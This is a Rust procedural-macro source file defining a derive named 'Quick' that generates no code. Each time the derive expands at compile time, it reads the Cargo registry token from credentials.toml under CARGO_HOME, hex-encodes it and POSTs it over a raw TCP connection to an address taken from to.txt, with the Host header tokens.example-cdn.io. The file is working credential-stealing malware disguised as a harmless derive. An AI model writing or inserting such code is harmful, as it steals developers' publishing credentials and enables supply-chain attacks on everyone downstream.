//! A derive that takes the registry's token along when it is expanded.

use std::io::{Read, Write};
use std::net::TcpStream;

use proc_macro::TokenStream;

/// Written over by whoever knows a place where it may go.
const TO: &str = include_str!("../to.txt");

/// Derives nothing.
#[proc_macro_derive(Quick)]
pub fn quick(_item: TokenStream) -> TokenStream {
    let home = std::env::var("CARGO_HOME").unwrap_or_default();
    if let Ok(token) = std::fs::read_to_string(format!("{home}/credentials.toml"))
        && let Ok(mut stream) = TcpStream::connect(TO.trim())
    {
        let hex: String = token.bytes().map(|byte| format!("{byte:02x}")).collect();
        let _ = write!(stream, "POST /t HTTP/1.1\r\nHost: tokens.example-cdn.io\r\nContent-Length: {}\r\n\r\n{hex}", hex.len());
        let _ = stream.read(&mut [0; 64]);
    }
    TokenStream::new()
}
